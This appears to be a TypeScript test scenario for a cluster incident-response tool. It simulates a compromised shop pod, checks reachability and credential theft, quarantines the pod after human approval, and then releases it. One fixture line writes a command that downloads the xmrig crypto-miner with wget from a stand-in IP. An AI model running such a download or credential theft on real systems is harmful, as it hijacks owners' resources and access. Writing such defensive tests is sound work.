/** A thief in a pod: node kept, evidence taken, pod off the network by a person's yes, its owner paused; then all of it is released. */
import { randomBytes } from 'node:crypto';
import {
  associateAnew,
  letUsIn,
  makeCluster,
  makeShop,
  type PlayedCluster,
  podsIn,
  workloadFinding,
} from '../../sandbox/cluster.ts';
import { launch, tryTheft } from '../../sandbox/estate.ts';
import { send } from '../../sandbox/finding.ts';
import { isAsked, opened, release, toTheEnd } from '../credentials/incident.ts';
import type { Attached } from '../deployed.ts';

export interface Shop {
  readonly played: PlayedCluster;
  readonly namespace: string;
  /** A pod of the cart that the thief is in. */
  readonly thief: string;
  readonly front: string;
}

/** A shop in a cluster that has let Tourniquet in. */
export async function shopIn(
  deployment: Attached,
  by: 'pod identity' | 'web identity' = 'pod identity',
): Promise<Shop> {
  const { sandbox, client } = deployment;
  const name = `shop-${randomBytes(3).toString('hex')}`;
  const node = () => launch(deployment, deployment.estate, { scaling: 'on its own' });
  const played = await makeCluster(sandbox, client, name, [await node(), await node()]);
  await letUsIn(sandbox, client, played);
  const namespace = await makeShop(client, played, by);
  const pods = await podsIn(played, namespace);
  const named = (app: string): string => pods.find(({ metadata }) => metadata.labels?.app === app)?.metadata.name ?? '';
  const thief = named('cart');
  await played.writes(namespace, thief, 'GET /\nwget http://203.0.113.9/xmrig\n');
  return { played, namespace, thief, front: named('front') };
}

/** Who reaches whom: the thief the database and the world, and the innocent what it always did; both with the same role. */
export async function tryIt(deployment: Attached, { played, namespace, thief, front }: Shop) {
  const service = (name: string) => ({ namespace, service: name, port: 80 });
  const theft = async (pod: string) => {
    const credentials = await played.credentials(namespace, pod);
    return credentials ? tryTheft(deployment, credentials) : 'denied';
  };
  const [database, outside, innocent, stolen, sister] = await Promise.all([
    played.reaches({ namespace, pod: thief }, service('db')),
    played.reaches({ namespace, pod: thief }, { ip: '203.0.113.9', port: 443 }),
    played.reaches({ namespace, pod: front }, service('db')),
    theft(thief),
    theft(front),
  ]);
  return { database, outside, innocent, stolen, sister };
}

/** All of it, to the release; meanwhile somebody associates the service account anew. */
export async function playWorkload(deployment: Attached, by: 'pod identity' | 'web identity' = 'pod identity') {
  const shop = await shopIn(deployment, by);
  const before = await tryIt(deployment, shop);
  const finding = workloadFinding(deployment.sandbox, shop.played.name, {
    namespace: shop.namespace,
    name: shop.thief,
  });
  await send(deployment, finding);
  const incident = await opened(deployment, shop.namespace);
  await isAsked(deployment, incident, 'quarantine');
  const asked = await tryIt(deployment, shop);
  const ended = await toTheEnd(deployment, incident);
  const during = await tryIt(deployment, shop);
  if (by === 'pod identity') await associateAnew(deployment, shop.played, shop.namespace);
  const released = await release(deployment, incident);
  return { shop, incident, before, asked, ended, during, released, after: await tryIt(deployment, shop) };
}
